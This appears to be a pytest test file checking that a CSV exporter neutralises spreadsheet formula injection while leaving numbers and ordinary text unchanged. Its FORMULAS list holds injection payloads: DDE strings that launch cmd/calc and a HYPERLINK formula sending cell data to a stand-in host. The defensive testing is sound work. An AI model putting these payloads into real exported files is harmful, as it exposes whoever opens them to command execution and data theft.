"""What a spreadsheet would take for a formula is written as a text, and numbers stay numbers (S-6).

The signs that begin a formula are those of OWASP's page on CSV injection (from memory): = + - @ tab and line breaks.
"""

import csv
import io

import pytest

from weirhouse.records.cells import csv_cell, csv_text

FORMULAS = (
    "=1+2", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
    "\n=1+2",
        '=HYPERLINK("http://elsewhere.example?"&A1,"x")', " =1+2", "＝1+2", "-A1", "+A1",
    "--3", "-1-1", "+-2", "=", "-",
    "@", "-e5", "-1,2,3", "-1:2", "1;=2\n=3",
)  # fmt: skip
NUMBERS = (-3.5, -1e-7, 1e21, -0.0, 7, -12, 0.1, float("-1e-300"))
WRITTEN = ("-3.5", "+2", "-1,234.5", "3.1", "-1e-5", "-.5", "<0.02", "pump 1, off", "O'Neil", "", "12:30", "a=b", "ND")


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_no_cell_begins_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert cell == f"'{text}"


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_stays_a_number(value: float) -> None:
    assert float(csv_cell(value)) == value


@pytest.mark.parametrize("text", WRITTEN)
def test_what_is_no_formula_stays_as_it_was_written(text: str) -> None:
    assert csv_cell(text) == text


def test_a_table_comes_back_as_it_was_but_for_the_mark() -> None:
    rows = [[*FORMULAS], [*NUMBERS], [*WRITTEN], ['quoted "x"', "two\nlines", "a,b", None]]
    back = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    for sent, came in zip(rows, back, strict=True):
        plain = [
            cell.removeprefix("'") if isinstance(was, str) and cell != was else cell
            for was, cell in zip(sent, came, strict=True)
        ]
        assert plain == ["" if was is None else str(was) for was in sent]
